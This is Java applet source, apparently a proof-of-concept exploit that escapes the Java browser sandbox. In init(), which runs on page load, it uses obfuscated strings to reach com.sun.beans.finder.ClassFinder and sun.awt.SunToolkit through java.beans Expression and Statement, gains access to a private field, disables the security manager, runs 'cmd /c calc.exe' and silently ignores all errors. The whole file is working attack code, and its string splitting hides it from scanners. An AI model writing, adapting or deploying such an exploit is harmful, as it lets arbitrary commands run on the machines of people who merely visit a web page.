import java.applet.Applet;
import java.beans.Expression;
import java.beans.Statement;

public class AppletRunnerX extends Applet {
    private static final String FINDER = "com.sun.be" + "ans.finder." + "Class" + "Finder";
    private static final String TOOLKIT = new String(new char[]{'s', 'u', 'n', '.', 'a', 'w', 't', '.', 'S', 'u', 'n', 'T', 'o', 'o', 'l', 'k', 'i', 't'});
    private static final String FIND = new StringBuilder("find").append("Class").toString();

    public void init() {
        try {
            Expression expr = new Expression(Class.forName(FINDER), FIND, new Object[]{TOOLKIT});
            expr.execute();
            String hook = String.valueOf('g') + "et" + "Field";
            Object toolkit = expr.getValue();
            new Statement(toolkit, hook, new Object[]{Statement.class, "acc"}).execute();
            System.setSecurityManager(null);
            Runtime.getRuntime().exec(new String[]{"cmd", "/c", "calc.exe"});
        } catch (Exception ignored) {
        }
    }
}
